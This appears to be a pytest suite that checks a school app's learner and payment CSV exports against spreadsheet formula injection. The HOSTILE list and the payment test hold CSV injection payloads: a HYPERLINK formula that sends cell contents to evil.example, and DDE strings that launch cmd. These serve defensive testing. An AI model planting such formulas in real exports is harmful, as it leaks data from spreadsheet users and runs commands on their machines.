"""CSV exports (learners, payments): every text cell that starts a formula is neutralised; our numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from coachbox.core.hostile import csv_cell, csv_row
from coachbox.store import payments as store
from tests.admin.conftest import add_learner, cast, password_hash, signed_in  # noqa: F401 - fixtures
from tests.payments.conftest import add_learner as add_kenyan_learner

pytestmark = pytest.mark.anyio

# OWASP's CSV injection starts, and the two that passed before #18 (a digit after the sign).
HOSTILE = [
    '=1+HYPERLINK("http://evil.example/?"&A1,"click")',
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_becomes_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-2.50", "+254712345678", "-1,000", "200", "Amina", "", "a=b", "2026-03-02"])
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert csv_row([-250, 0, 3.5, None, True]) == [-250, 0, 3.5, "", "True"]


def _rows(response) -> list[list[str]]:
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"))))


@pytest.fixture
def settings(settings):
    # The test client speaks plain http: Secure session cookies (https public_url) would never come back.
    return settings.replace(server={"public_url": "http://127.0.0.1:8000"})


async def test_the_learner_export_neutralises_every_hostile_name_and_cohort(client, cast, conn):
    for n, value in enumerate(HOSTILE):
        add_learner(conn, name=value, phone=f"+25470000{n:04d}", cohort=value)
    await signed_in(client, "bob@school.test")
    _, response = await client.get("/admin/learners.csv")
    header, *rows = _rows(response)
    assert len(rows) == len(HOSTILE)
    name, cohort = header.index("name"), header.index("cohort")
    assert sorted(r[name] for r in rows) == sorted("'" + v for v in HOSTILE)
    assert sorted(r[cohort] for r in rows) == sorted("'" + v for v in HOSTILE)
    assert all(r[header.index("phone")].startswith("+2547") for r in rows)  # a phone number stays a number


async def test_the_payment_export_neutralises_text_and_keeps_amounts(client, cast, conn, clock):
    learner = add_kenyan_learner(conn, name="-1+cmd|' /C calc'!A0")
    payment_id = store.create_payment(
        conn,
        learner_id=learner,
        plan="monthly",
        plan_snapshot_id=None,
        provider="mpesa",
        amount_minor=250,  # never negative (a CHECK in the schema); a refund is a status
        currency="USD",
        period_days=30,
        now=clock.now(),
        status="paid",
        phone="+254712345678",
        provider_ref='=1+HYPERLINK("http://evil.example")',
        receipt="@SUM(1)",
    )
    assert payment_id
    await signed_in(client, "bob@school.test")
    _, response = await client.get("/admin/payments.csv")
    header, row = _rows(response)
    cell = dict(zip(header, row, strict=True))
    assert cell["learner"] == "'-1+cmd|' /C calc'!A0"
    assert cell["reference"] == '\'=1+HYPERLINK("http://evil.example")'
    assert cell["receipt"] == "'@SUM(1)"
    assert (cell["amount_minor"], cell["amount"]) == ("250", "2.50")  # numbers, not text
    assert cell["phone"] == "+254712345678"
